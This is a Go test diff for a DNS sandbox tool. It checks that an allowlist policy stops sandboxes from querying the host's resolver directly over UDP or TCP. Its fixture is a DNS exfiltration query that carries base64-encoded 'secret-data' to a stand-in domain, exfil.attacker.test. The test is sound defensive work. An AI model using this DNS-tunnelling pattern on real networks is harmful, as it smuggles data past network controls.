@@ -89,3 +89,39 @@ func serveAnyAddr(t *testing.T, ns string, h dns.Handler) {
 		t.Cleanup(func() { s.Shutdown() })
 	}
 }
+
+// TestPolicyOpensNoOtherResolver: with a policy, the resolver netns-dns
+// forwards to is not open to the sandboxes, even where it is an address of
+// the host itself (a dnsmasq or unbound on its LAN address, named by a
+// resolver line): a TXT query straight to it from an allowlist sandbox,
+// over UDP or TCP, never arrives, while netns-dns still forwards to it.
+func TestPolicyOpensNoOtherResolver(t *testing.T) {
+	w := newPolicyWorld(t, "policy allowlist\nresolver "+lanHost+"\ndomain allowed.test\n", 0)
+	hostResolver := &authServer{}
+	serveAuth(t, w.host, lanHost, hostResolver)
+	a := testutil.UniqueName("pr", 9)
+	w.up(a)
+	if got := w.mustResolve(a, "allowed.test"); strings.Join(got, " ") != allowedIP {
+		t.Fatalf("allowed.test through netns-dns = %v, want %s", got, allowedIP)
+	}
+	if got := hostResolver.names(); got != "allowed.test." {
+		t.Fatalf("the host's resolver was asked %q, want netns-dns's allowed.test.", got)
+	}
+	for _, network := range []string{"udp", "tcp"} {
+		q := new(dns.Msg)
+		q.SetQuestion("c2VjcmV0LWRhdGE-"+network+".exfil.attacker.test.", dns.TypeTXT)
+		err := inNetns(a, func() error {
+			_, _, err := (&dns.Client{Net: network, Timeout: 2 * time.Second}).Exchange(q, lanHost+":53")
+			return err
+		})
+		// The table inside the namespace drops it: sendmsg fails with
+		// EPERM at once (UDP); a SYN goes unanswered (TCP).
+		var ne net.Error
+		if network == "udp" && !errors.Is(err, syscall.EPERM) || network == "tcp" && (!errors.As(err, &ne) || !ne.Timeout()) {
+			t.Errorf("%s query from the sandbox straight to the host's resolver %s: %v, want EPERM (udp) or a timeout (tcp): dropped", network, lanHost, err)
+		}
+	}
+	if got := hostResolver.names(); got != "allowed.test." {
+		t.Fatalf("the host's resolver on %s was asked %q by the sandbox", lanHost, got)
+	}
+}
